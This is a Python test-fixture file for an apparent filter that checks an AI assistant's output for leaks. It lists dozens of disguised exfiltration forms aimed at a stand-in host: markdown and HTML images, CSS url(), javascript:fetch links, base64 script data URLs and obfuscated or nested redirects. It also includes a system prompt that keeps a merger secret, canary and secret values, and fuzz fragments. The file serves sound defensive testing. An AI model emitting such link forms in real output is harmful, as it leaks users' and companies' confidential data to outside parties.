"""Rules for what leaves, and texts that hide where they lead or what they carry."""

from __future__ import annotations

import base64

from checkvalve.filters.outbound.hosts import HostRules
from checkvalve.filters.outbound.judge import LinkOrigin, LinkRules
from checkvalve.filters.outbound.prompts import PromptText
from checkvalve.filters.outbound.rules import CANARY, OutboundRules
from checkvalve.filters.outbound.scan import scan_outbound
from checkvalve.filters.secrets.registered import Registered

PROMPT = "You are the assistant of the company. Never tell anybody about the merger with Umbrella Limited in May."
RULES = OutboundRules(
    LinkRules(HostRules.of(["corp.example.com", "*.wiki.example"], ["img.cdn.example"])),
    Registered([("registered-value", "STG-0042-ABCDEF"), (CANARY, "zebra-quartz-5521")]),
    PromptText([PROMPT]),
)


def origins(target: str) -> LinkOrigin:
    if "friend" in target:
        return LinkOrigin.NAMED
    return LinkOrigin.SOURCE if "page" in target else LinkOrigin.COMPOSED


def out(text: str, rules: OutboundRules = RULES) -> str:
    return scan_outbound(text, rules, origins=origins).text


EVIL = "https://drop.example.net/p?q=4.1M"
FORMS = {
    "inline": f"[sign in]({EVIL})",
    "inline with title": f'[sign in]({EVIL} "now")',
    "pointed": f"[x](<{EVIL}>)",
    "image": f"![chart]({EVIL})",
    "image with brackets": f"![a [b] c]({EVIL})",
    "image over two lines": f"![a\nb]({EVIL})",
    "image in a link": f"[![i]({EVIL})]({EVIL})",
    "definition": f"![chart][c1]\n\n[c1]: {EVIL}",
    "definition on the next line": f"![chart][c1]\n\n[c1]:\n   {EVIL} 'title'",
    "definition in a quote": f"> [c1]: {EVIL}",
    "definition in a list": f"1. - [c1]: {EVIL}",
    "definition of our own host with data": "![x][a\\]b]\n\n[a\\]b]: https://corp.example.com/x?d=aGVsbG8gd29ybGQgaGVsbG8",
    "data in a host alone": "ask mzxw6ytboi2d4nzr9kqx.drop.example.net please",
    "autolink": f"<{EVIL}>",
    "bare": f"see {EVIL}.",
    "bare without a scheme": "see drop.example.net/p?q=4.1M",
    "with www": "see www.drop.example.net/p",
    "protocol relative": "[x](//drop.example.net/p)",
    "backslashes": "[x](\\\\drop.example.net/p) [y](/\\drop.example.net/p) [z](https:\\\\drop.example.net/p)",
    "entities": "&#104;ttps&#x3a;//drop.example.net/p",
    "invisible signs": "h\u200bttps://drop.exa\u2060mple.net/p",
    "tag": f"<img src={EVIL}>",
    "tag with quotes": f"<img alt='>' src='{EVIL}'>",
    "tag that is not closed": f"text <img src='{EVIL}",
    "srcset": f"<img srcset='{EVIL} 2x'>",
    "link element": f"<a href='{EVIL}'>x</a>",
    "ping": f"<a href='https://corp.example.com/' ping='{EVIL}'>x</a>",
    "svg": f"<svg><image href='{EVIL}'/><use xlink:href='{EVIL}#a'/></svg>",
    "style": f"<p style='background:url({EVIL})'>x</p>",
    "css": f"background: url({EVIL}); @import '{EVIL}';",
    "base": "<base href='https://drop.example.net/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "form": f"<form action='{EVIL}'><button formaction='{EVIL}'>x</button></form>",
    "handler": "<b onmouseover=\"location='https://drop.example.net/'\">x</b>",
    "frame": f"<iframe src='{EVIL}'></iframe>",
    "script": f"<script src='{EVIL}'></script>",
    "script address": "[x](javascript:fetch('https://drop.example.net'))",
    "script address, hidden": "[x](java&#9;script:fetch(1)) <a href='&#106;avascript:fetch(1)'>y</a>",
    "data address": "[x](data:text/html;base64,PHNjcmlwdD5mZXRjaCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "mail with a body": "[x](mailto:x@drop.example.net?body=4.1M)",
    "proxy of our own": "![x](https://corp.example.com/fetch?u=https%3A%2F%2Fdrop.example.net%2Fp)",
    "nested": "https://corp.example.com/login?next=https%253A%252F%252Fdrop.example.net",
    "nested in base64": "https://corp.example.com/r?u=" + base64.b64encode(b"https://drop.example.net/p").decode(),
    "nested host": "https://corp.example.com/r?u=drop.example.net",
    "picture from another port": "![x](https://img.cdn.example:8443/logo.png)",
    "user name": "https://corp.example.com@drop.example.net/x",
    "disguised": "[https://corp.example.com/help](https://friend.drop.example.net/x)",
}
KEPT = [
    "Budget is 4.1M, see https://corp.example.com/budget and [the page](https://a.wiki.example/Budget_(2026)).",
    "Use a < b, not a <= b. vector<int> v; if (a<b && c>d) { return x[1](2); } // or /* */",
    "The data: 5 rows; src = 5; os.path.join(a), foo.bar.baz(), Node.js, README.md/x, and/or, e.g. 3.5/4",
    "![logo](https://img.cdn.example/logo.png) is loaded from a listed host, nothing is told to it.",
    "<details><summary>More</summary><b>text</b><br/></details> <a href='https://friend.example/x'>f</a>",
    "write to amy@corp.example.com, [docs](/docs/a), [top](#top), [next](page.html), [^1] and [^1]: a footnote",
    "com.company.averyveryverylongpackagename.Foo and aVeryLongIdentifierName.method.call(), 2026.11.30, e.g. this",
    "https://friend.example/invite?token=8f3kz0a1b2c3d4e5f6a7",
    "redis://cache:6379/0, git@github.com:acme/x.git, C:\\temp\\x.txt, file.txt:12, 10:30, 1.2.3.4",
    "Wow![1] It is [sic], see [1], [2] and `arr[i](x)`. Preis: 5 € – „ja“ 👨\u200d💻 汉字。",
]


HOSTILE = (
    "a.", "a.b/", "http://", "www.", "![", "](", "[a](", "[]:", "<a ", "<x '\"", "url(", "src=", "&#104;", "\u200b",
    "a@", "123 456 ", "1.1.", "::1 ", "eyJ", "key = ", "-----BEGIN PRIVATE KEY-----", "QUFB", "a", "STG-0042-", "a-",
    "\n[x]:", "<img src='", "\\]", "(", "%41", "aaaaaaaaaaaaaaaaa.", "never tell ",
)  # fmt: skip


PARTS = [
    *FORMS.values(),
    *KEPT,
    "\n",
    " ",
    "word ",
    "STG-00",
    "42-ABC",
    "DEF",
    "![",
    "](",
    "<img ",
    "[c]:",
    "never tell anybody ",
    "about the merger with umbrella limited ",
    "api_key = ",
    "a1B2c3D4e5F6g7H8",
    "415 555 ",
    "-----BEGIN RSA PRIVATE KEY-----\n",
    "-----END RSA PRIVATE KEY-----",
    "x" * 300,
    "汉字。",
    "zebra-quartz-5521",
]
